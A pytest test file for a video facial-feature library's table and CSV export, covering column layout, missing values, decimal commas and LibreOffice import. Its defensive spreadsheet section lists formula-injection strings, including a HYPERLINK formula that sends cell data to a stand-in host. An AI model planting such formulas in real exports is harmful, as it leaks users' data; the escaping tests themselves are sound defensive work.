"Tables, and text files of them: each value in its place, and no formula in a spreadsheet."
import csv
import os
import re
import shutil
import subprocess
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mexca_video import (
    AU_NAMES,
    STATUS,
    demo_features,
    load,
    rename_faces,
    save,
    to_csv,
    to_table,
)

from made_up import corrected

MORE = ("face_pose", "eye_openness", "eye_gaze", "face_aus_side", "face_sharpness", "face_brightness")


def rows_one_by_one(ds, keep_empty):
    "The table as one would write it down by hand."
    for f in ds.frame.values:
        here, found = ds.sel(frame=f), False
        for slot in ds.face.values:
            face = here.sel(face=slot)
            if np.isnan(face.face_box.values).any(): continue
            found = True
            points = face.face_landmarks
            yield [int(f), here.time.item(), int(slot), face.face_name.item(), face.face_label.item(), face.face_confidence.item(), face.face_prob.item(),
                   *face.face_box.values.tolist(), *points.sel(axis="x").values.tolist(), *points.sel(axis="y").values.tolist(),
                   *face.face_aus.values.tolist(), "demo.mp4", list(STATUS)[face.status.item()], here.n_detected.item(),
                   here.shot.item(), int(face.face_track), face.face_evidence.item(),
                   *(value for name in MORE for value in np.ravel(face[name].values).tolist())]
        if not found and keep_empty: yield [int(f), here.time.item()] + [None] * 165 + ["demo.mp4", "no_face", 0, here.shot.item(), None, None]


@pytest.mark.parametrize("keep_empty", [True, False])
@pytest.mark.parametrize("make", [demo_features, corrected, lambda: demo_features(n_faces=0), lambda: demo_features(n_frames=1, n_faces=12)])
def test_table(make, keep_empty):
    ds = make()
    table, wanted = to_table(ds, keep_empty=keep_empty), list(rows_one_by_one(ds, keep_empty))
    more = [f"face_pose_{angle}" for angle in ("pitch", "yaw", "roll")] + ["eye_openness_right", "eye_openness_left"]
    more += [f"eye_gaze_{angle}" for angle in ("pitch", "yaw", "roll")]
    more += [f"face_aus_side_{side}_{au}" for side in ("right", "left") for au in AU_NAMES] + ["face_sharpness", "face_brightness"]
    assert list(table.columns) == [
        "frame", "time", "face", "face_name", "face_label", "face_confidence", "face_prob", "x1", "y1", "x2", "y2",
        *[f"x_{i}" for i in range(68)], *[f"y_{i}" for i in range(68)],
        *"AU01 AU02 AU04 AU05 AU06 AU07 AU09 AU10 AU11 AU12 AU14 AU15 AU17 AU20 AU23 AU24 AU25 AU26 AU28 AU43".split(), "video_file", "status", "n_detected", "shot", "face_track", "face_evidence", *(more if "face_pose" in ds else [])]
    assert len(table) == len(wanted)
    for found, row in zip(table.astype(object).values.tolist(), wanted):
        for a, b in zip(found, row):  # the columns with a fixed place
            assert (pd.isna(a) and (b is None or b != b)) or a == b
    assert table["face"].dtype == "Int64" and table["frame"].dtype == "int64" and table["AU12"].dtype == "float32"


def test_table_of_a_rearranged_result():
    "Columns are chosen by label, so the order in the Dataset does not matter."
    ds = demo_features()
    turned = ds.isel(au=slice(None, None, -1), axis=[1, 0], box_edge=[3, 1, 2, 0])
    pd.testing.assert_frame_equal(to_table(turned), to_table(ds))


def test_csv_is_plain(tmp_path):
    "Any program can read it: a header, UTF-8, points as decimal signs, empty fields for what is missing."
    ds = corrected()
    with open(to_csv(ds, tmp_path / "a.csv"), encoding="utf-8", newline="") as file: rows = list(csv.DictReader(file))
    assert b"\r" not in (tmp_path / "a.csv").read_bytes() and not (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert len(rows) == len(to_table(ds)) and rows[0]["face_name"] == 'Zoë, "Z."'
    assert {int(row["frame"]) for row in rows} == set(ds.frame.values.tolist())
    empty = next(row for row in rows if not row["face"])
    assert {empty[name] for name in empty if name not in ("frame", "time", "video_file", "status", "n_detected", "shot")} == {""}
    assert (empty["video_file"], empty["status"], empty["n_detected"]) == ("demo.mp4", "no_face", "0")
    first = ds.face_aus.sel(face=0).isel(frame=0)
    assert [np.float32(rows[0][au]) for au in AU_NAMES] == first.values.tolist()


def test_table_says_why_a_value_is_missing():
    "Action units that failed and those that were not to be measured look alike; the status does not."
    ds = demo_features()
    ds["face_aus"].values[3, 0] = np.nan
    unplanned = to_table(ds).set_index(["frame", "face"])
    ds["status"].values[3, 0] = STATUS["aus_failed"]
    failed = to_table(ds).set_index(["frame", "face"])
    cell = (ds.frame.values[3], 0)
    assert np.isnan(failed.AU12[cell]) and np.isnan(unplanned.AU12[cell])
    assert (failed.status[cell], unplanned.status[cell]) == ("aus_failed", "ok")
    assert failed.n_detected[cell] == ds.n_detected.values[3]


def test_frame_in_which_known_faces_are_left_out():
    "A result of which a person was taken out still says how many faces were there, and does not say that there was none."
    ds = demo_features().isel(face=[1])
    alone = (np.isnan(ds.face_box).all(["face", "box_edge"]) & (ds.n_detected > 0)).values
    assert alone.any()
    rows = to_table(ds).set_index("frame").loc[ds.frame.values[alone]]
    assert set(rows.status) == {"absent"} and rows.face.isna().all() and (rows.n_detected > 0).all()


def test_clip_without_a_name():
    ds = demo_features()
    del ds.attrs["video_file"]
    assert to_table(ds).video_file.isna().all()


@pytest.mark.parametrize("name", ["NA", " NA ", "nan", "None", "NULL", "n/a"])
def test_name_that_means_a_missing_value(name, tmp_path):
    ds = rename_faces(demo_features(), {0: name})
    with pytest.raises(ValueError, match="a.csv.*face_name.*rename_faces"): to_csv(ds, tmp_path / "a.csv")
    assert os.listdir(tmp_path) == []
    assert load(save(ds, tmp_path / "a.nc")).identical(ds)


@pytest.mark.parametrize("name", ["Nadia", "Na", "NN", "Nan Goldin", "True", "7"])
def test_names_that_come_back(name, tmp_path):
    table = pd.read_csv(to_csv(rename_faces(demo_features(), {0: name}), tmp_path / "a.csv"), dtype={"face_name": str})
    assert table.face_name.dropna().unique().tolist()[0] == name


def test_missing_words_are_those_of_pandas():
    from pandas._libs.parsers import STR_NA_VALUES

    from mexca_video.io.tables import _MISSING_WORDS

    assert _MISSING_WORDS >= STR_NA_VALUES - {""}


# --- spreadsheets -------------------------------------------------------------------------------------------------------

RISKY = ["=1+1", "+49 30 1234", "-2+3", "@SUM(A1)", "'=1+1", "''=1+1", "\t=1+1", "\tAda", " =1+1", "x;=1+1", "x; =1+1", 'x;"=1+1', "x\t-1+1", "=HYPERLINK(\"http://a.b/?\"&A1)", "＝1+1"]
HARMLESS = ["Zoë", "Anna-Lena", "'t Hooft", "a=b", "talk (2) - Ada", "talk; Ada", "7", "3-4", "Müller, \"M.\""]
BACK = r"""(^|[;\t\r\n])([ "]*)'(?='*[=+\-@＝＋－＠\t\r\n])"""


@pytest.mark.parametrize("text", RISKY)
def test_text_that_is_no_formula_any_more(text, tmp_path):
    ds = rename_faces(demo_features(), {0: text}).assign_attrs(video_file=f"{text}.mp4")
    table = pd.read_csv(to_csv(ds, tmp_path / "a.csv"), dtype={"face_name": str})
    name, file = table.face_name.dropna()[table.face_label == 0].unique().item(), table.video_file.unique().item()
    for found, wanted in ((name, text), (file, f"{text}.mp4")):
        for cell in re.split("[;\t]", found): assert not re.match(r'[\s"]*[=+\-@＝＋－＠]', cell)
        assert not re.match(r"[\t\r\n]", found)
        assert re.sub(BACK, r"\1\2", found) == wanted
    assert to_table(ds).video_file.unique().tolist() == [f"{text}.mp4"] and text in to_table(ds).face_name.values


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text, tmp_path):
    ds = rename_faces(demo_features(), {0: text})
    assert text in pd.read_csv(to_csv(ds, tmp_path / "a.csv"), dtype={"face_name": str}).face_name.values


@given(st.text(alphabet=st.sampled_from(list("=+-@'\"; \t\r\na1"))))
def test_every_text_comes_back(text):
    from mexca_video.io.tables import quote_formulas

    assert re.sub(BACK, r"\1\2", quote_formulas(text)) == text


def test_numbers_are_numbers(tmp_path):
    "A minus is a formula in a text and a sign in a number."
    ds = demo_features()
    ds["face_box"] = ds.face_box - 500
    table = pd.read_csv(to_csv(ds, tmp_path / "a.csv"))
    assert (table.x1.dropna() < 0).all() and table.x1.dtype == "float64" and "'-" not in (tmp_path / "a.csv").read_text("utf-8")


GERMAN = """<?xml version="1.0" encoding="UTF-8"?><oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Setup/L10N"><prop oor:name="ooSetupSystemLocale" oor:op="fuse"><value>de-DE</value></prop></item></oor:items>"""
OASIS = "urn:oasis:names:tc:opendocument:xmlns:"


def open_in_german(path, folder, options):
    "The rows of a file as LibreOffice Calc in German reads it with the import `options`: (kind, value, formula) of each cell."
    if not (office := shutil.which("soffice")): pytest.skip("LibreOffice is not installed (Debian: libreoffice-calc)")
    (folder / "profile" / "user").mkdir(parents=True)
    (folder / "profile" / "user" / "registrymodifications.xcu").write_text(GERMAN)
    command = [office, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", f"--infilter=CSV:{options}", "--convert-to", "fods", "--outdir", folder, path]
    done = subprocess.run(list(map(str, command)), capture_output=True, text=True, timeout=180)
    assert (result := folder / f"{path.stem}.fods").is_file(), done.stderr
    rows = []
    for row in ElementTree.parse(result).getroot().iter(f"{{{OASIS}table:1.0}}table-row"):
        cells = []
        for cell in row.findall(f"{{{OASIS}table:1.0}}table-cell"):
            text = "\n".join("".join(part.itertext()) for part in cell.findall(f"{{{OASIS}text:1.0}}p"))
            found = cell.get(f"{{{OASIS}office:1.0}}value-type"), cell.get(f"{{{OASIS}office:1.0}}value", text), cell.get(f"{{{OASIS}table:1.0}}formula")
            cells += [found] * min(int(cell.get(f"{{{OASIS}table:1.0}}number-columns-repeated", 1)), 200)
        rows.append(cells)
    return rows


def test_names_and_values_survive_german_libreoffice(tmp_path):
    "The import that the notebook describes: UTF-8, comma, English numbers, names as text."
    names = ["Zoë", "007", "TRUE", "3-4", "1.5", "=1+1", "Jürgen; Groß", "+49"]
    ds = rename_faces(demo_features(n_frames=12, n_faces=len(names)), dict(enumerate(names)))
    file, table = to_csv(ds, tmp_path / "a.csv"), to_table(ds)
    text_columns = "/".join(f"{1 + table.columns.get_loc(name)}/2" for name in ("face_name", "video_file"))
    head, *rows = open_in_german(file, tmp_path, f"44,34,76,1,{text_columns},1033")
    assert [value for _, value, _ in head[:table.shape[1]]] == list(table.columns)
    assert not [cell for row in rows for cell in row if cell[2]]
    found = pd.DataFrame([[value or None for _, value, _ in row[:table.shape[1]]] for row in rows[:len(table)]], columns=table.columns)
    for column in table.columns.difference(["face_name", "video_file", "status"]):
        np.testing.assert_array_equal(found[column].astype(float).astype("float32"), table[column].astype(float).astype("float32"), column)
    found["face_name"] = found.face_name.str.replace(r"^'('*[=+@\t-])", r"\1", regex=True)
    for column in ("face_name", "video_file", "status"): assert found[column].fillna("").tolist() == table[column].fillna("").tolist()


def test_decimal_commas_open_in_german_libreoffice(tmp_path):
    "Without any choice in the dialog: semicolons, commas and the byte order mark say it all."
    names = ["Zoë", "=1+1", "Groß"]
    ds = rename_faces(demo_features(n_frames=12, n_faces=len(names)), dict(enumerate(names)))
    file, table = to_csv(ds, tmp_path / "a.csv", decimal_comma=True), to_table(ds)
    assert file.read_bytes().startswith(b"\xef\xbb\xbfframe;time;")
    head, *rows = open_in_german(file, tmp_path, "59,34,76,1,,1031")
    assert [value for _, value, _ in head[:table.shape[1]]] == list(table.columns)
    assert not [cell for row in rows for cell in row if cell[2]]
    for name in ("time", "AU12", "x1", "face_pose_yaw", "face_prob"):
        cells = [row[table.columns.get_loc(name)] for row in rows[:len(table)]]
        assert {kind for kind, value, _ in cells if value} == {"float"}
        np.testing.assert_array_equal(np.array([value or np.nan for _, value, _ in cells], "float32"), table[name].astype("float32"), name)
    assert {row[3][1] for row in rows[:len(table)]} - {""} == {"Zoë", "'=1+1", "Groß"}


@given(st.lists(st.floats(width=32) | st.none(), min_size=1), st.sampled_from(["float32", "float64"]))
def test_decimal_commas_lose_nothing(tmp_path_factory, numbers, kind):
    from mexca_video.io.tables import write_csv

    table = pd.DataFrame({"a": np.array([np.nan if v is None else v for v in numbers], kind), "b": ["x"] * len(numbers)})
    file = write_csv(table, tmp_path_factory.mktemp("csv") / "a.csv", decimal_comma=True)
    again = pd.read_csv(file, sep=";", dtype=str).a.fillna("nan").str.replace(",", ".")
    np.testing.assert_array_equal(again.astype(kind), table.a)


@pytest.mark.slow
@pytest.mark.parametrize("separator", [44, 59, 9], ids=["comma", "semicolon", "tab"])
def test_nothing_is_run_by_german_libreoffice(tmp_path, separator):
    "Whatever separator the reader chose, no cell is a formula. Without the apostrophes, some are."
    ds = rename_faces(demo_features(n_frames=2, n_faces=len(RISKY)), dict(enumerate(RISKY))).assign_attrs(video_file="=2+3;=4+5\t=6+7.mp4")
    formulas = lambda path: [cell for row in open_in_german(path, path.parent, f"{separator},34,76,1,,1031") for cell in row if cell[2]]
    for name in ("safe", "plain"): (tmp_path / name).mkdir()
    assert formulas(to_csv(ds, tmp_path / "safe" / "a.csv")) == []
    to_table(ds).to_csv(tmp_path / "plain" / "a.csv", index=False)
    assert formulas(tmp_path / "plain" / "a.csv")


def test_large_table_takes_no_loop():
    "50,000 frames; a loop over rows takes minutes here."
    import time

    ds = demo_features(n_frames=50_000)
    start = time.perf_counter()
    table = to_table(ds)
    assert time.perf_counter() - start < 15
    assert len(table) == int(ds.n_detected.sum() + (ds.n_detected == 0).sum())
